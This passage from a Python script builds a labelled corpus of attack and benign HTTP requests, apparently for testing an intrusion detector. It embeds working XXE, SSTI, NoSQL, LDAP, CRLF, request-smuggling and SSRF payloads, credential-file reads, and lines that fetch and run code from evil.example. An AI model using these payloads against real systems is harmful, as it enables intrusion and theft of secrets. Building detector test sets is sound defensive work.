    '<!DOCTYPE r SYSTEM "http://203.0.113.44/evil.dtd">',
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>',
    '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///var/run/secrets/kubernetes.io/serviceaccount/token">]>',
    '<!DOCTYPE r [<!ENTITY xxe SYSTEM "expect://id">]>',
    '<!DOCTYPE r [<!ELEMENT r ANY><!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]>',
    '<!DOCTYPE r PUBLIC "-//X//Y" "http://evil.example/p.dtd">',
    '<!DOCTYPE r [<!ENTITY % d SYSTEM "jar:http://evil.example/a.zip!/x.dtd">%d;]>',
    '<!DOCTYPE r [<!ENTITY xxe SYSTEM "netdoc:///etc/shadow">]>',
    '<!DOCTYPE r [<!ENTITY   xxe   SYSTEM   "gopher://127.0.0.1:25/_HELO">]>',
    '<!DOCTYPE r [<!ENTITY % x SYSTEM "file:///etc/passwd"><!ENTITY % y "<!ENTITY &#37; z SYSTEM \'ftp://evil.example/%x;\'>">%y;%z;]>',
    '<!doctype r [<!entity xxe system "file:///proc/self/environ">]>',
    '<!DOCTYPE r [<!ENTITY xxe SYSTEM "https://kubernetes.default.svc/api/v1/secrets">]>',
    '<!DOCTYPE r [<!ENTITY % e SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd"><!ENTITY % expr \'aaa)><!ENTITY x SYSTEM "file:///etc/passwd">\'>%e;]>',
    '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///home/app/.aws/credentials">]>',
]


def p_ndc_xxe(r, p):
    xml = ('<?xml version="1.0" encoding="UTF-8"?>\n' + p + '\n<IATA_OrderRetrieveRQ xmlns="http://www.iata.org/IATA/2015/00/2019.2/IATA_OrderRetrieveRQ">'
           '<Request><OrderFilterCriteria><Order><OrderID>&xxe;</OrderID></Order></OrderFilterCriteria></Request></IATA_OrderRetrieveRQ>')
    return mkreq(r, "ndc", "POST", "/ndc/19.2/OrderRetrieve", body=xml, ctype="application/xml", browser=False)


def p_soap_xxe(r, p):
    xml = ('<?xml version="1.0"?>' + p + '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">'
           '<soapenv:Body><GetReservation><PNR>&xxe;</PNR><LastName>NUNEZ</LastName></GetReservation></soapenv:Body></soapenv:Envelope>')
    return mkreq(r, "ndc", "POST", "/soap/ReservationService", body=xml, ctype="text/xml; charset=utf-8", browser=False,
                 extra=[["SOAPAction", '"urn:GetReservation"']])


def p_docx_xxe(r, p):
    doc = ('PK\u0003\u0004\u0014\u0000\u0006\u0000word/document.xml<?xml version="1.0" standalone="yes"?>' + p
           + '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>')
    body, ct = multipart(r, [("job_id", "48812")], [("resume", "CV_Nunez.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", doc)])
    return mkreq(r, "ats", "POST", "/api/v1/applications", body=body, ctype=ct, browser=True, auth=False)


def p_saml_xxe(r, p):
    xml = '<?xml version="1.0"?>' + p + '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"><saml:Issuer>&xxe;</saml:Issuer></samlp:Response>'
    return mkreq(r, "idp", "POST", "/saml/acs", ctype="application/x-www-form-urlencoded", browser=True, auth=False,
                 body=form([("SAMLResponse", base64.b64encode(xml.encode()).decode()), ("RelayState", "/portal")]))


SSTI = [
    "{{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "${7*7}<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read()}}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')",
    "{% import os %}{{ os.system('whoami') }}", "<%= `id` %>", "{{self.__init__.__globals__.__builtins__}}",
    "${{<%[%'\"}}%\\.", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}", "{{lipsum.__globals__.os.popen('id').read()}}",
    "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))", "{{'a'.getClass().forName('java.lang.Runtime')}}",
    "{php}echo `id`;{/php}", "{{cycler.__init__.__globals__.os.popen('ls').read()}}",
]


def p_offer_tpl(r, p):
    return mkreq(r, "ats", "POST", "/api/v1/offers/preview", browser=True,
                 body=jdump({"template": "offer-standard-eu", "variables": {"manager_name": p, "bonus_pct": "10%"}}))


def p_email_tpl(r, p):
    return mkreq(r, "ats", "PUT", "/api/v1/settings/email-templates/interview-invite", browser=True,
                 body=jdump({"subject": "Interview at HireWell", "body": f"Hi {{{{candidate.first_name}}}}, {p}"}))


def p_ssti_q(r, p):
    return mkreq(r, "gov", "GET", "/portal/notice", qs([("name", p)]), browser=True, auth=False)


NOSQL = [
    '{"email":{"$ne":null},"password":{"$ne":null}}', '{"username":"admin","password":{"$gt":""}}',
    '{"pnr":{"$regex":".*"},"lastName":{"$exists":true}}', '{"$where":"this.salary > 0 || sleep(5000)"}',
    '{"candidateId":{"$in":[1,2,3]},"$or":[{"role":"admin"},{"1":{"$eq":1}}]}', '{"filter":{"status":{"$nin":[]},"$expr":{"$function":{"body":"function(){return true}","args":[],"lang":"js"}}}}',
    '{"login":{"$regex":"^a"},"pin":{"$ne":"0000"}}',
]
NOSQL_Q = ["username[$ne]=x&password[$ne]=x", "lastName[$regex]=.*&pnr[$gt]=", "email[$exists]=true&token[$ne]=1",
           "where=this.password.match(/^a/)||'1'=='1'", "employeeId[$where]=sleep(3000)"]


def p_nosql_json(r, p):
    return mkreq(r, r.choice(["ats", "travel", "gov"]), "POST", r.choice(["/api/auth/login", "/v2/bookings/lookup", "/api/v1/candidates/query"]),
                 body=p, browser=False, auth=False)


def p_nosql_q(r, p):
    return mkreq(r, "travel", "GET", "/v2/bookings/retrieve?" + p.replace("[", "%5B").replace("]", "%5D").replace("'", "%27").replace("|", "%7C"),
                 browser=True, auth=False)


LDAP = ["*)(uid=*))(|(uid=*", "admin)(&(password=*))", "*)(|(objectClass=*)", "O'Connor)(|(title=*)",
        "*))%00", "x)(mail=*)(cn=", "*)(userPassword=*)", "Smith*)(!(department=HR)", "(&(objectClass=person)(cn=*))",
        "*(|(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=local))", "jdoe)(|(employeeNumber=*)(sn=*"]


def p_ldap_dir(r, p):
    return mkreq(r, "hris", "GET", "/api/directory/search", qs([("q", p), ("limit", 25)]), browser=True)


def p_ldap_login(r, p):
    return mkreq(r, "idp", "POST", "/login/ldap", ctype="application/x-www-form-urlencoded", browser=True, auth=False,
                 body=form([("username", p), ("password", "Summer2027!")]))


CRLF = ["/jobs/saved%0d%0aSet-Cookie:%20session=attacker", "%0d%0aLocation:%20https://evil.example/",
        "/portal%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200%20OK%0D%0AContent-Type:%20text/html%0D%0A%0D%0A%3Cscript%3Ealert(1)%3C/script%3E",
        "/trips%E5%98%8A%E5%98%8DSet-Cookie:%20x=y", "/cases%0aX-Injected:%20true", "%0d%0a%0d%0a<html>phish</html>",
        "/%0d%0aRefresh:%200;url=https://evil.example", "/apply/88123%0D%0AAccess-Control-Allow-Origin:%20*",
        "en%0d%0aSet-Cookie:%20lang=..%2f..%2fadmin", "/%0D%0ALink:%20%3Chttps://evil.example/x.css%3E;rel=stylesheet"]


def p_crlf_next(r, p):
    return mkreq(r, r.choice(["jobs", "gov", "travel"]), "GET", "/login", "next=" + p, browser=True, auth=False)


def p_crlf_lang(r, p):
    return mkreq(r, "gov", "GET", "/i18n/set", "lang=" + p + "&return=/portal", browser=True, auth=False)


GENERIC = [
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?leak=\"&A1&B1,\"Click for details\")",
    "@SUM(1+9)*cmd|' /C powershell IEX(wget 0r.pe/p)'!A0", "+cmd|'/c notepad'!'A1'", "-2+3+cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",CONCATENATE(A2:E2)),\"//a\")",
    '{"__proto__":{"isAdmin":true}}', '{"constructor":{"prototype":{"role":"admin"}}}',
    '<!--#exec cmd="/bin/cat /etc/passwd" -->', '<esi:include src="http://evil.example/steal?c=$(HTTP_COOKIE)"/>',
    "require('child_process').exec('curl evil.example|sh')", "__import__('os').system('id')",
]


def p_payroll_csv(r, p):
    csv = f"employee_id,last_name,first_name,gross,memo\nE10011,Nuñez,Ana,4200.00,bonus Q3\nE10012,{p},Liam,3900.00,\n"
    body, ct = multipart(r, [("period", "2027-03")], [("file", "payroll_03_2027.csv", "text/csv", csv)])
    return mkreq(r, "payroll", "POST", "/api/v1/imports/payroll", body=body, ctype=ct, browser=True)


def p_generic_json(r, p):
    body = p if p.startswith("{") else jdump({"employeeId": "E10333", "note": p})
    return mkreq(r, "hris", "PATCH", "/api/employees/E10333/preferences", body=body, browser=True)


def a_protocol(r):
    """Request smuggling and header abuse; built whole, not placed."""
    out = []
    smug = "0\r\n\r\nGET /api/admin/users HTTP/1.1\r\nHost: hris.peoplegrid.internal\r\nX-Ignore: x"
    req = mkreq(r, "hris", "POST", "/api/time-off/requests", body=smug, ctype="application/json", browser=False)
    req["headers"].insert(2, ["Transfer-Encoding", "chunked"])
    out.append(req)
    req = mkreq(r, "travel", "POST", "/v2/bookings", body="{}", browser=False)
    req["headers"].append(["Content-Length", "44"])
    out.append(req)
    body = "5\r\nhello\r\n0\r\n\r\nPOST /v2/bookings/ABC123/cancel HTTP/1.1\r\nHost: api.skyway-booking.com\r\n\r\n"
    req = mkreq(r, "travel", "POST", "/v2/bookings/lookup", body=body, ctype="application/x-www-form-urlencoded", browser=False)
    req["headers"].insert(2, ["Transfer-Encoding", " chunked"])
    req["headers"].insert(3, ["Transfer-Encoding", "identity"])
    out.append(req)
    req = mkreq(r, "gov", "GET", "/static/forms/DS-82.pdf", browser=True, auth=False,
                extra=[["Range", "bytes=0-," + ",".join(f"5-{i}" for i in range(6, 200))]])
    out.append(req)
    req = mkreq(r, "re", "GET", "/v1/listings?city=Austin", browser=True, auth=False,
                extra=[["X-Forwarded-For", "127.0.0.1\u0000"]])
    out.append(req)
    req = mkreq(r, "ats", "POST", "/api/v1/applications/cover-letter", browser=True, ctype="text/plain; charset=utf-7",
                body="+ADw-script+AD4-alert(1)+ADw-/script+AD4-")
    out.append(req)
    req = mkreq(r, "jobs", "GET", "/api/v2/jobs/search?q=nurse&q=x&q=%00", browser=True, auth=False,
                extra=[["Transfer-Encoding", "xchunked"]])
    out.append(req)
    req = mkreq(r, "payroll", "TRACE", "/api/v1/exports/payslips", browser=False,
                extra=[["Max-Forwards", "0"]])
    out.append(req)
    req = mkreq(r, "hris", "GET", "/api/employees/E10001", browser=False)
    req["uri"] = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    out.append(req)
    return out


ATTACKS = [
    ("sqli", "jobsearch-sqli", SQLI[:14], [p_jobsearch, p_jobsearch_loc, p_sort, p_pnr, p_flight, p_employee_json, p_listing_price]),
    ("sqli", "forms-sqli", SQLI[14:28], [p_tax_form, p_report_filter, p_odata, p_pnr, p_listing_price, p_employee_json, p_hotel_q]),
    ("sqli", "misc-sqli", SQLI[28:], [p_jobsearch, p_report_filter, p_sort, p_tax_form, p_flight, p_odata]),
    ("xss", "stored-xss", XSS, [p_cover, p_listing_html, p_timeoff_note, p_inquiry, p_profile_name, p_hotel_q, p_jobsearch]),
    ("lfi", "file-lfi", LFI, [p_resume_fname, p_doc_download, p_template, p_export_path, p_raw_path]),
    ("rfi", "include-rfi", RFI, [p_lang, p_template]),
    ("rce", "converter-rce", RCE, [p_convert, p_convert_form, p_ping, p_resume_fname]),
    ("php", "upload-php", PHP, [p_php_upload, p_php_cookie, p_template, p_doc_download]),
    ("java", "log4shell-java", JAVA, [p_hr_field, p_ua, p_xapi, p_java_json, p_java_form, p_pnr]),
    ("ssrf", "callback-ssrf", SSRF, [p_import, p_webhook, p_esign_cb, p_photo]),
    ("xxe", "xml-xxe", XXE_DTD, [p_ndc_xxe, p_soap_xxe, p_docx_xxe, p_saml_xxe]),
    ("ssti", "template-ssti", SSTI, [p_offer_tpl, p_email_tpl, p_ssti_q]),
    ("nosqli", "json-nosqli", NOSQL, [p_nosql_json]),
    ("nosqli", "query-nosqli", NOSQL_Q, [p_nosql_q]),
    ("ldapi", "directory-ldapi", LDAP, [p_ldap_dir, p_ldap_login]),
    ("crlf", "redirect-crlf", CRLF, [p_crlf_next, p_crlf_lang]),
    ("generic", "formula-generic", GENERIC[:6], [p_payroll_csv]),
    ("generic", "misc-generic", GENERIC[6:], [p_generic_json, p_listing_html]),
]


# ------------------------------------------------------------------- driver


def finish(req, rid, category, expect):
    out = {"id": rid, "set": SET, "category": category, "expect": expect}
    out.update(req)
    return out


def gen_attacks():
    seen = set()
    for cat, nm, payloads, placers in ATTACKS:
        r = random.Random(nm)
        for i, p in enumerate(payloads):
            assert p not in seen, p
            seen.add(p)
            req = placers[i % len(placers)](r, p)
            yield finish(req, f"{SET}/{cat}/{nm}-{i + 1:03d}", cat, "detect")
    r = random.Random("protocol")
    for i, req in enumerate(a_protocol(r)):
        yield finish(req, f"{SET}/protocol/smuggling-{i + 1:03d}", "protocol", "detect")


def gen_benign():
    for table, cat in ((BENIGN, "benign"), (DEV, "dev-content")):
        for nm, n, fn in table:
            r = random.Random(nm)
            for i in range(n):
                yield finish(fn(r), f"{SET}/{cat}/{nm}-{i + 1:03d}", cat, "pass")


def main():
    what = sys.argv[1] if len(sys.argv) > 1 else ""
    if what == "attacks":
        gen = gen_attacks()
    elif what == "benign":
        gen = gen_benign()
    elif what == "stats":
        for label, g in (("attacks", gen_attacks()), ("benign", gen_benign())):
            counts = {}
            for x in g:
                counts[x["category"]] = counts.get(x["category"], 0) + 1
            total = sum(counts.values())
            detail = ", ".join(f"{k} {v}" for k, v in sorted(counts.items(), key=lambda kv: (-kv[1], kv[0])))
            print(f"{label}: {total} ({detail})", file=sys.stderr)
        return
    else:
        print(__doc__.split("How to run")[1].split("Each output")[0], file=sys.stderr)
        sys.exit(2)
    for x in gen:
        sys.stdout.write(json.dumps(x, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
